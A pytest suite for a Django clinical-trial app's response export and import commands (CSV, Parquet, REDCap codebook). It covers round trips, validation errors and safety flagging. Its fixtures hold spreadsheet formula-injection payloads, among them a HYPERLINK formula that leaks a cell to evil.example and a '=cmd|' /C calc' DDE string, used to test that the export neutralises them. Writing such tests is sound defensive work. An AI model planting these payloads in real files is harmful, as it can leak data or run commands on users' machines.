"""The exchange files through the management commands: export (long CSV and Parquet, scores,
REDCap codebook), round trips that restore identical answers and scores, idempotent re-imports,
and files refused as a whole with every bad line reported."""

import csv
import io
import random
import re
from datetime import datetime, timedelta

import pandas as pd
import pytest
from django.core.management import CommandError, call_command
from django.db.models import Count

from safety.models import SafetyFlag
from surveys.models import Instrument, Response, ResponseDraft, Score
from surveys.services import draft_save
from trials.models import Allocation, ConsentDocument, TrialEvent
from trials.services import participant_enrol, participant_withdraw
from trials.spreadsheet import unneutralised

pytestmark = pytest.mark.django_db

RESPONSE_COLUMNS = [
    "trial",
    "participant",
    "arm",
    "wave",
    "instrument",
    "item",
    "value",
    "language",
    "submitted_at",
]
SCORE_COLUMNS = [
    "trial",
    "participant",
    "arm",
    "wave",
    "instrument",
    "score",
    "dimension",
    "value",
    "submitted_at",
]
# Spelled as in REDCap's own data dictionary template.
REDCAP_HEADERS = [
    "Variable / Field Name",
    "Form Name",
    "Section Header",
    "Field Type",
    "Field Label",
    "Choices, Calculations, OR Slider Labels",
    "Field Note",
    "Text Validation Type OR Show Slider Number",
    "Text Validation Min",
    "Text Validation Max",
    "Identifier?",
    "Branching Logic (Show field only if...)",
    "Required Field?",
    "Custom Alignment",
    "Question Number (surveys only)",
    "Matrix Group Name",
    "Matrix Ranking?",
    "Field Annotation",
]


def _export(directory, file_format="both") -> str:
    out = io.StringIO()
    call_command(
        "export_trial", "small", "--out", str(directory), "--format", file_format, stdout=out
    )
    return out.getvalue()


def _import(path) -> str:
    out = io.StringIO()
    call_command("import_responses", "small", str(path), stdout=out)
    return out.getvalue()


def _refusal(path) -> str:
    """The command's error for a refused file; nothing may have been written."""
    responses, scores = Response.objects.count(), Score.objects.count()
    with pytest.raises(CommandError) as refused:
        _import(path)
    assert (Response.objects.count(), Score.objects.count()) == (responses, scores)
    return str(refused.value)


def _snapshot(trial) -> dict:
    """Everything a response stores that the exchange format carries or derives."""
    responses = Response.objects.filter(wave__trial=trial).prefetch_related("scores")
    return {
        (r.participant_id, r.wave.index): {
            "answers": r.answers,
            "languages": r.languages,
            "submitted_at": r.submitted_at,
            "quality": r.quality,
            "flagged": r.flagged,
            "scores": {s.code: (s.instrument_id, s.dimension, s.value) for s in r.scores.all()},
        }
        for r in responses.select_related("wave")
    }


def _read_csv(path) -> list[dict[str, str]]:
    """The cells as exported, less the apostrophe that keeps a spreadsheet from running a cell
    as a formula (a pseudonym may start with "-")."""
    with path.open(encoding="utf-8", newline="") as handle:
        return [{k: unneutralised(v) for k, v in row.items()} for row in csv.DictReader(handle)]


def _write_csv(path, rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=RESPONSE_COLUMNS)
        writer.writeheader()
        writer.writerows(rows)


def _first_participants(trial, count: int, *, waves: int = 0) -> list[str]:
    """Ids of ``count`` participants who answered at least ``waves`` waves."""
    answered = trial.participants.annotate(answered=Count("responses")).filter(answered__gte=waves)
    return list(answered.order_by("pk").values_list("pk", flat=True)[:count])


def test_export_writes_long_files_scores_and_a_redcap_codebook(small_trial, tmp_path):
    # A participant who withdrew under an erasing consent has no answers left to export.
    ConsentDocument.objects.filter(trial=small_trial).update(withdrawal_rule="erase")
    erased = small_trial.participants.order_by("pk").first()
    participant_withdraw(participant=erased)

    printed = _export(tmp_path)

    names = ["codebook.csv", "responses.csv", "responses.parquet", "scores.csv", "scores.parquet"]
    assert sorted(p.name for p in tmp_path.iterdir()) == [f"small-{name}" for name in names]
    assert all(str(tmp_path / f"small-{name}") in printed for name in names)
    stored = Response.objects.filter(wave__trial=small_trial)
    # Every response holds the five WHO-5 and five SWLS items.
    item_count = sum(len(items) for r in stored for items in r.answers.values())
    assert item_count == 10 * stored.count() > 0

    responses = pd.read_csv(tmp_path / "small-responses.csv", dtype=str, keep_default_na=False)
    responses = responses.map(unneutralised)
    assert list(responses.columns) == RESPONSE_COLUMNS
    assert len(responses) == item_count
    assert erased.pk not in set(responses["participant"])
    allocated = dict(Allocation.objects.values_list("participant_id", "arm__slug"))
    pairs = zip(responses.participant, responses.arm, strict=True)
    assert all(allocated[participant] == arm for participant, arm in pairs)
    assert all(datetime.fromisoformat(t).utcoffset() is not None for t in responses.submitted_at)
    one = stored.first()
    mine = responses[(responses.participant == one.participant_id) & (responses.item == "who5_2")]
    assert mine[mine.wave == str(one.wave.index)].value.tolist() == [
        str(one.answers["who5"]["who5_2"])
    ]

    parquet = pd.read_parquet(tmp_path / "small-responses.parquet")
    assert list(parquet.columns) == RESPONSE_COLUMNS
    assert len(parquet) == item_count
    assert str(parquet["value"].dtype) == "int64"
    assert str(parquet["submitted_at"].dtype) == "datetime64[us, UTC]"

    scores = pd.read_csv(tmp_path / "small-scores.csv")
    assert list(scores.columns) == SCORE_COLUMNS
    assert len(scores) == Score.objects.count() == 2 * stored.count()
    assert set(scores.dimension) == {"mental_wellbeing", "life_satisfaction"}
    assert len(pd.read_parquet(tmp_path / "small-scores.parquet")) == len(scores)

    # Pseudonymous ids only: no contact details in any file.
    for path in tmp_path.glob("*.csv"):
        assert "@example.org" not in path.read_text(encoding="utf-8")

    codebook = pd.read_csv(tmp_path / "small-codebook.csv", dtype=str, keep_default_na=False)
    assert list(codebook.columns) == REDCAP_HEADERS
    # REDCap's record id comes first: the pseudonym.
    first = codebook.iloc[0]
    assert (first["Variable / Field Name"], first["Field Type"]) == ("participant", "text")
    items = codebook[codebook["Field Type"] == "radio"]
    expected_items = [f"swls_{i}" for i in range(1, 6)] + [f"who5_{i}" for i in range(1, 6)]
    assert items["Variable / Field Name"].tolist() == expected_items
    assert set(items["Form Name"]) == {"swls", "who5"}
    who5_1 = items[items["Variable / Field Name"] == "who5_1"].iloc[0]
    assert who5_1["Field Label"] == "I have felt cheerful and in good spirits"
    assert who5_1["Choices, Calculations, OR Slider Labels"] == (
        "0, At no time | 1, Some of the time | 2, Less than half of the time | "
        "3, More than half of the time | 4, Most of the time | 5, All of the time"
    )
    assert who5_1["Section Header"].startswith("Please indicate for each of the five statements")
    calcs = codebook[codebook["Field Type"] == "calc"].set_index("Variable / Field Name")
    assert calcs.loc["who5", "Choices, Calculations, OR Slider Labels"] == (
        "(sum([who5_1], [who5_2], [who5_3], [who5_4], [who5_5])) * 4"
    )
    assert calcs.loc["swls", "Form Name"] == "swls"


def test_csv_round_trip_restores_answers_and_scores_and_reimport_changes_nothing(
    small_trial, tmp_path
):
    _export(tmp_path, "csv")
    before = _snapshot(small_trial)
    total = len(before)
    removed = Response.objects.filter(participant__in=_first_participants(small_trial, 5))
    deleted = removed.count()
    removed.delete()
    assert deleted > 0

    printed = _import(tmp_path / "small-responses.csv")

    rows = 10 * total
    assert f"{rows} rows; {deleted} responses imported, {total - deleted} unchanged" in printed
    # Same answers, languages, submission times, quality indices and identical score values.
    assert _snapshot(small_trial) == before

    scores = Score.objects.count()
    again = _import(tmp_path / "small-responses.csv")
    assert f"0 responses imported, {total} unchanged" in again
    assert (Response.objects.count(), Score.objects.count()) == (total, scores)
    assert _snapshot(small_trial) == before


def test_rows_in_any_order_and_other_spellings_of_a_cell_import_the_same(small_trial, tmp_path):
    """The import reads values, not spellings: the rows of different responses interleaved in
    any order, padded or signed numbers and another spelling of the same instant (``Z`` for
    ``+00:00``) restore exactly what the export held, with no duplicate or inconsistency."""
    _export(tmp_path, "csv")
    before = _snapshot(small_trial)
    removed = Response.objects.filter(participant__in=_first_participants(small_trial, 4))
    deleted = removed.count()
    removed.delete()
    rows = _read_csv(tmp_path / "small-responses.csv")
    assert all(row["submitted_at"].endswith("+00:00") for row in rows)
    for number, row in enumerate(rows):
        if number % 3 == 0:
            row["value"] = f" +{row['value']} "
        if number % 2 == 0:
            row["submitted_at"] = row["submitted_at"].replace("+00:00", "Z")
        if number % 5 == 0:
            row["wave"] = f" {row['wave']}"
    random.Random(3).shuffle(rows)
    _write_csv(tmp_path / "shuffled.csv", rows)

    printed = _import(tmp_path / "shuffled.csv")

    assert f"{deleted} responses imported, {len(before) - deleted} unchanged" in printed
    assert _snapshot(small_trial) == before


def test_parquet_round_trip_keeps_the_language_from_the_file(small_trial, tmp_path):
    _export(tmp_path, "parquet")
    path = tmp_path / "small-responses.parquet"
    removed = _first_participants(small_trial, 3)
    frame = pd.read_parquet(path)
    frame.loc[frame.participant.isin(removed), "language"] = "de"
    frame.to_parquet(path, index=False)
    before = _snapshot(small_trial)
    Response.objects.filter(participant__in=removed).delete()
    deleted = sum(key[0] in removed for key in before)

    assert f"{deleted} responses imported, {len(before) - deleted} unchanged" in _import(path)

    after = _snapshot(small_trial)
    for key, stored in before.items():
        expected = {"swls": "de", "who5": "de"} if key[0] in removed else {}
        assert after[key] == {**stored, "languages": expected}
    assert f"0 responses imported, {len(before)} unchanged" in _import(path)


def test_a_file_with_bad_rows_is_refused_whole_with_every_bad_line(small_trial, tmp_path):
    _export(tmp_path, "csv")
    rows = _read_csv(tmp_path / "small-responses.csv")
    removed = _first_participants(small_trial, 6, waves=3)
    Response.objects.filter(participant__in=removed).delete()
    withdrawn = small_trial.participants.get(pk=removed[4])
    participant_withdraw(participant=withdrawn)  # keeps data; accepts no new answers

    def response(number: int, wave: int) -> list[dict]:
        return [r for r in rows if r["participant"] == removed[number] and r["wave"] == str(wave)]

    def first_who5(number: int, wave: int) -> dict:
        return next(r for r in response(number, wave) if r["instrument"] == "who5")

    bad: list[tuple[dict, str]] = []

    def spoil(row: dict, reason: str, **cells) -> None:
        row.update(cells)
        bad.append((row, reason))

    spoil(first_who5(0, 0), "value 9 is outside the scale of who5 (0 to 5)", value="9")
    spoil(first_who5(0, 1), "value '3.5' is not an integer", value="3.5")
    spoil(first_who5(0, 2), "unknown item 'who5_9' of instrument who5", item="who5_9")
    spoil(
        first_who5(1, 0),
        "submitted_at 'yesterday' is not an ISO 8601 date and time with a time zone",
        submitted_at="yesterday",
    )
    spoil(
        first_who5(1, 1),
        "submitted_at '2026-01-05T10:00:00' is not an ISO 8601",
        submitted_at="2026-01-05T10:00:00",
    )
    spoil(first_who5(1, 2), "trial is 'other', not 'small'", trial="other")
    wrong_arm = "b" if first_who5(2, 0)["arm"] == "a" else "a"
    spoil(first_who5(2, 0), f"arm is '{wrong_arm}' but {removed[2]} is allocated to", arm=wrong_arm)
    spoil(
        first_who5(2, 1),
        "instrument 'flourishing_scale' is not asked in wave 1",
        instrument="flourishing_scale",
    )
    kept = next(r for r in rows if r["participant"] not in removed and r["item"] == "swls_2")
    other_value = "1" if kept["value"] != "1" else "2"
    spoil(
        kept,
        f"already answered swls_2 in wave {kept['wave']} with {kept['value']}",
        value=other_value,
    )
    strangers = [dict(kept, participant="nobody"), dict(kept, wave="7")]
    rows += strangers
    bad += [
        (strangers[0], "unknown participant 'nobody' for trial 'small'"),
        (strangers[1], "unknown wave '7' (the waves are 0, 1, 2)"),
    ]
    duplicated = response(2, 2)[3]
    copy = dict(duplicated)
    rows.append(copy)
    incomplete = response(3, 0)
    rows.remove(next(r for r in incomplete if r["item"] == "who5_3"))

    def line(row: dict) -> int:
        return next(number for number, r in enumerate(rows, start=2) if r is row)

    expected = {line(row): reason for row, reason in bad}
    expected[line(copy)] = f"duplicate of line {line(duplicated)}"
    expected[line(incomplete[0])] = "lacks who5 items who5_3"
    for wave in range(3):
        expected[line(response(4, wave)[0])] = f"{withdrawn.pk} withdrew on"
    # Participant 5's responses are valid and new, but are not imported either.
    _write_csv(tmp_path / "bad.csv", rows)

    message = _refusal(tmp_path / "bad.csv")

    assert message.startswith(f"Nothing was imported from {tmp_path / 'bad.csv'}: ")
    assert "the header as line 1" in message
    assert sorted(int(n) for n in re.findall(r"^  line (\d+):", message, re.M)) == sorted(expected)
    for number, reason in expected.items():
        assert re.search(rf"^  line {number}: .*{re.escape(reason)}", message, re.M), reason
    assert not Response.objects.filter(participant=removed[5]).exists()


def test_unreadable_files_are_refused_with_a_clear_reason(small_trial, tmp_path):
    _export(tmp_path)
    good_csv = (tmp_path / "small-responses.csv").read_text(encoding="utf-8")

    garbage = tmp_path / "garbage.csv"
    garbage.write_bytes(b"\x89PNG\r\n\x1a\n\xff\xfe\x00binary")
    assert "garbage.csv is not UTF-8 text" in _refusal(garbage)

    lines = good_csv.splitlines(keepends=True)
    truncated = tmp_path / "truncated.csv"
    truncated.write_text("".join(lines[:49]) + lines[49][:20], encoding="utf-8")
    message = _refusal(truncated)
    # Responses take ten lines each: the cut one (lines 42-51) lost its last two items.
    assert "2 problem(s)" in message
    assert "line 42: incomplete: " in message and "lacks who5 items who5_4, who5_5" in message
    assert "line 50: 2 fields where the header has 9 (a cut-off" in message

    parquet_bytes = (tmp_path / "small-responses.parquet").read_bytes()
    cut = tmp_path / "cut.parquet"
    cut.write_bytes(parquet_bytes[: len(parquet_bytes) // 2])
    message = _refusal(cut)
    assert message.startswith(f"Nothing was imported from {cut}: 1 problem(s).\n  cut.parquet")
    assert "cut.parquet cannot be read as Parquet (corrupt or truncated)" in message

    frame = pd.read_csv(tmp_path / "small-responses.csv", dtype=str, keep_default_na=False)
    narrow = tmp_path / "narrow.csv"
    frame.drop(columns=["value", "language"]).to_csv(narrow, index=False)
    assert "line 1: missing columns: value, language" in _refusal(narrow)

    parquet = pd.read_parquet(tmp_path / "small-responses.parquet")
    parquet.loc[3, "value"] = 99
    one_bad = tmp_path / "one-bad.parquet"
    parquet.to_parquet(one_bad, index=False)
    message = _refusal(one_bad)
    assert "line = row index + 2" in message
    assert re.search(r"^  line 5: value 99 is outside the scale", message, re.M)

    empty = tmp_path / "empty.csv"
    empty.write_text("", encoding="utf-8")
    assert "empty.csv is empty" in _refusal(empty)
    assert "extension, .csv or .parquet" in _refusal(tmp_path / "responses.xlsx")
    assert "Cannot read" in _refusal(tmp_path / "missing.csv")
    with pytest.raises(CommandError, match="No trial with slug 'nope'"):
        call_command("import_responses", "nope", str(narrow))


# Text a spreadsheet would run as a formula, and text that breaks hand-made CSV.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    'she said "yes", twice',
    "two\nlines",
    "Grüße, 日本 ✓",
]
# Item codes as a licensed pack may spell them (the importer trims spaces, so none lead).
HOSTILE_ITEMS = ['=HYPERLINK("http://evil.example","x")', "+1", "-2+3", "@SUM(A1)", 'a "b", c']
# What a spreadsheet-safe export must hold for each: one apostrophe before a formula start.
NEUTRALISED_ITEMS = ["'" + HOSTILE_ITEMS[0], "'+1", "'-2+3", "'@SUM(A1)", 'a "b", c']
PSEUDONYM = "-2+3AbCdEfGhIjKlMnOpQr"  # token_urlsafe ids may start with "-"


def _hostile_instrument() -> dict:
    """A pack instrument whose wording and codes are hostile, on a scale with negative points."""
    return {
        "code": "hostile",
        "name": "=cmd|' /C calc'!A0",
        "version": "1",
        "citation": "A licensed instrument with hostile wording.",
        "licence": "licence-required",
        "validated": False,
        "recall_window_days": 0,
        "languages": {"en": {"source": "licence holder"}},
        "scale": {"min": -2, "max": 2, "labels": {"en": HOSTILE[:5]}},
        "stem": {"en": HOSTILE[5]},
        "items": [
            {"code": code, "reverse": False, "text": {"en": HOSTILE[position + 4]}}
            for position, code in enumerate(HOSTILE_ITEMS)
        ],
        "scores": [
            {"code": "@score", "dimension": "life_satisfaction", "rule": "mean", "range": [-2, 2]}
        ],
    }


def _raw_rows(path) -> list[list]:
    """The file as ``csv.reader`` reads it, unquoted numbers as floats (so text and numbers can
    be told apart)."""
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle, quoting=csv.QUOTE_NONNUMERIC))


def _assert_spreadsheet_safe(rows: list[list]) -> None:
    for row in rows:
        for cell in row:
            assert not (isinstance(cell, str) and cell[:1] in "=+-@\t\r" and cell), repr(cell)


def test_every_exported_csv_neutralises_formulas_and_reads_back_equal(
    small_trial, tmp_path, monkeypatch
):
    from types import SimpleNamespace

    import trials.models
    from surveys.models import Wave
    from surveys.services import instrument_pack_load, response_submit

    [hostile] = instrument_pack_load(pack={"instruments": [_hostile_instrument()]})
    after = max(w.day_offset + w.window_days for w in small_trial.waves.all())
    # Written behind the services, which refuse to change an enrolling trial's registered
    # schedule: the export must be safe whatever instruments the waves ask.
    wave = Wave.objects.create(trial=small_trial, index=3, day_offset=after)
    wave.instruments.set([hostile])
    # A pseudonym that starts like a formula, through the real enrolment.
    monkeypatch.setattr(
        trials.models, "secrets", SimpleNamespace(token_urlsafe=lambda n: PSEUDONYM)
    )
    newcomer = participant_enrol(
        trial=small_trial,
        email="hostile@example.org",
        consent_document=ConsentDocument.objects.get(trial=small_trial),
        scopes=["surveys"],
    )
    assert newcomer.pk == PSEUDONYM
    values = [-2, -1, 0, 1, 2]
    answers = {"hostile": dict(zip(HOSTILE_ITEMS, values, strict=True))}
    response_submit(participant=newcomer, wave=wave, answers=answers, languages={"hostile": "en"})
    before = _snapshot(small_trial)

    _export(tmp_path, "csv")

    responses = _raw_rows(tmp_path / "small-responses.csv")
    assert responses[0] == RESPONSE_COLUMNS
    mine = [row for row in responses if row[1] == "'" + PSEUDONYM]
    assert [row[5] for row in mine] == NEUTRALISED_ITEMS
    # Negative answers are numbers (unquoted), not text to neutralise.
    assert [(row[3], row[6]) for row in mine] == [(3.0, float(value)) for value in values]
    _assert_spreadsheet_safe(responses)

    scores = _raw_rows(tmp_path / "small-scores.csv")
    [score] = [row for row in scores if row[1] == "'" + PSEUDONYM]
    assert score[4:8] == ["hostile", "'@score", "life_satisfaction", 0.0]
    _assert_spreadsheet_safe(scores)

    codebook = _raw_rows(tmp_path / "small-codebook.csv")
    assert codebook[0] == REDCAP_HEADERS
    fields = {row[0]: row for row in codebook[1:] if row[1] == "hostile" and row[3] != "text"}
    assert list(fields) == [*NEUTRALISED_ITEMS, "'@score"]
    first = fields[NEUTRALISED_ITEMS[0]]
    assert first[2] == "'\rx"  # the stem, as the section header
    assert [fields[code][4] for code in NEUTRALISED_ITEMS] == [
        "'\tx",
        "'\rx",
        'she said "yes", twice',
        "two\nlines",
        "Grüße, 日本 ✓",
    ]
    assert first[5] == (
        "'-2, " + HOSTILE[0] + " | -1, +1 | 0, -2+3 | 1, @SUM(A1:A9) | 2, \tx"
    )  # only the cell's start can run
    assert fields["'@score"][4] == "'=cmd|' /C calc'!A0: score @score"
    _assert_spreadsheet_safe(codebook)

    # The export reads back in: the apostrophes go, the answers come back as they were.
    Response.objects.filter(participant=newcomer).delete()
    printed = _import(tmp_path / "small-responses.csv")
    assert f"1 responses imported, {len(before) - 1} unchanged" in printed
    assert _snapshot(small_trial) == before
    assert Response.objects.get(participant=newcomer).answers == answers


def test_values_and_times_no_answer_can_have_are_line_errors(small_trial, tmp_path):
    _export(tmp_path, "csv")
    rows = _read_csv(tmp_path / "small-responses.csv")
    removed = _first_participants(small_trial, 1, waves=3)[0]
    Response.objects.filter(participant=removed).delete()
    mine = [r for r in rows if r["participant"] == removed]
    enrolled = small_trial.participants.get(pk=removed).enrolled_at
    mine[0]["value"] = "9" * 5000  # beyond Python's 4,300-digit int-parsing limit
    mine[1]["value"] = "-" + "1" * 19
    mine[2]["value"] = "x" * 10_000
    for row in mine[10:20]:  # one whole response, so times agree within it
        row["submitted_at"] = "2999-01-01T00:00:00+00:00"
    for row in mine[20:30]:
        row["submitted_at"] = (enrolled - timedelta(days=1)).isoformat()
    mine[9]["submitted_at"] = "0001-01-01T00:00:00+05:00"  # before the year 1 in UTC
    _write_csv(tmp_path / "bad.csv", rows)

    message = _refusal(tmp_path / "bad.csv")

    def line(row: dict) -> int:
        return next(number for number, r in enumerate(rows, start=2) if r is row)

    assert f"line {line(mine[0])}: value '{'9' * 60}…' has 5000 digits" in message
    assert f"line {line(mine[1])}: value '-{'1' * 19}' has 19 digits" in message
    assert f"line {line(mine[2])}: value '{'x' * 60}…' is not an integer" in message
    assert f"line {line(mine[10])}: submitted_at '2999-01-01T00:00:00+00:00' is in the future" in (
        message
    )
    assert f"line {line(mine[20])}: submitted_at " in message
    assert f"is before {removed} enrolled" in message
    assert f"line {line(mine[9])}: submitted_at '0001-01-01T00:00:00+05:00' is not an ISO" in (
        message
    )
    assert len(message) < 20_000  # bad cells are quoted cut short


def test_a_parquet_value_python_cannot_hold_refuses_the_file(small_trial, tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    _export(tmp_path, "parquet")
    table = pq.read_table(tmp_path / "small-responses.parquet")
    times = table.column("submitted_at").cast(pa.int64()).to_pylist()
    times[0] = 2**62  # microseconds: far beyond the year 9999
    column = pa.array(times, pa.int64()).cast(pa.timestamp("us", tz="UTC"))
    far = tmp_path / "far.parquet"
    pq.write_table(table.set_column(8, "submitted_at", column), far)
    assert "far.parquet holds a value that cannot be read" in _refusal(far)


def _stored_counts(trial) -> tuple[int, ...]:
    return (
        Response.objects.count(),
        Score.objects.count(),
        ResponseDraft.objects.count(),
        TrialEvent.objects.filter(trial=trial).count(),
    )


@pytest.mark.parametrize("where", ["first", "middle", "last"])
def test_one_corrupt_row_anywhere_in_a_large_file_leaves_nothing_written(
    small_trial, tmp_path, where
):
    """The bulk write starts only after every row passed: a bad row at the start, in the middle
    or as the very last line of a file of mostly new responses stores none of them."""
    _export(tmp_path, "csv")
    rows = _read_csv(tmp_path / "small-responses.csv")
    removed = _first_participants(small_trial, 30)
    Response.objects.filter(participant__in=removed).delete()
    new = {(r["participant"], r["wave"]) for r in rows if r["participant"] in removed}
    # A removed response's participant has a draft of it, which storing it removes.
    participant, wave = sorted(new)[0]
    draft_save(
        participant=small_trial.participants.get(pk=participant),
        wave=small_trial.waves.get(index=int(wave)),
        answers={"who5": {"who5_1": 3}},
        page=0,
    )
    position = {"first": 0, "middle": len(rows) // 2, "last": len(rows) - 1}[where]
    value = rows[position]["value"]
    rows[position]["value"] = "x"
    _write_csv(tmp_path / "corrupt.csv", rows)
    before = _stored_counts(small_trial)

    message = _refusal(tmp_path / "corrupt.csv")

    assert "1 problem(s)" in message
    assert f"line {position + 2}: value 'x' is not an integer" in message
    assert _stored_counts(small_trial) == before
    # The same file, mended, goes in whole.
    rows[position]["value"] = value
    _write_csv(tmp_path / "mended.csv", rows)
    assert f"{len(new)} responses imported" in _import(tmp_path / "mended.csv")
    assert Response.objects.filter(wave__trial=small_trial).count() == len(rows) // 10
    assert not ResponseDraft.objects.filter(participant=participant).exists()


def test_an_imported_safety_answer_is_flagged_once_with_its_audit_event(small_trial, tmp_path):
    """As when the participant answers on their pages (response_submit): a triggering answer
    to PHQ-9's item 9 raises one flag and one SAFETY_ANSWER_FLAGGED event, and importing the
    same file again raises nothing more."""
    wave = small_trial.waves.get(index=0)
    phq9 = Instrument.objects.get(code="phq9")
    wave.instruments.add(phq9)
    _export(tmp_path, "csv")
    participant = _first_participants(small_trial, 1, waves=1)[0]
    Response.objects.filter(participant=participant, wave=wave).delete()
    rows = [
        r
        for r in _read_csv(tmp_path / "small-responses.csv")
        if r["participant"] == participant and r["wave"] == "0"
    ]
    answers = {item: "2" if item == "phq9_9" else "0" for item in phq9.definition.item_codes}
    rows += [dict(rows[0], instrument="phq9", item=item, value=v) for item, v in answers.items()]
    _write_csv(tmp_path / "phq9.csv", rows)

    assert "1 responses imported" in _import(tmp_path / "phq9.csv")

    response = Response.objects.get(participant=participant, wave=wave)
    assert response.scores.get(code="phq9").value == 2.0
    flag = SafetyFlag.objects.get(participant=participant)
    assert flag.source_key == f"response:{response.pk}:phq9:phq9_9"
    assert flag.detail == {"instrument": "phq9", "item": "phq9_9", "answer": 2, "wave": 0}
    event = TrialEvent.objects.get(kind=TrialEvent.Kind.SAFETY_ANSWER_FLAGGED)
    assert event.detail == {
        "participant": participant,
        "instrument": "phq9",
        "item": "phq9_9",
        "wave": 0,
        "flag": flag.pk,
    }
    assert "0 responses imported, 1 unchanged" in _import(tmp_path / "phq9.csv")
    assert SafetyFlag.objects.count() == 1
    assert TrialEvent.objects.filter(kind=TrialEvent.Kind.SAFETY_ANSWER_FLAGGED).count() == 1
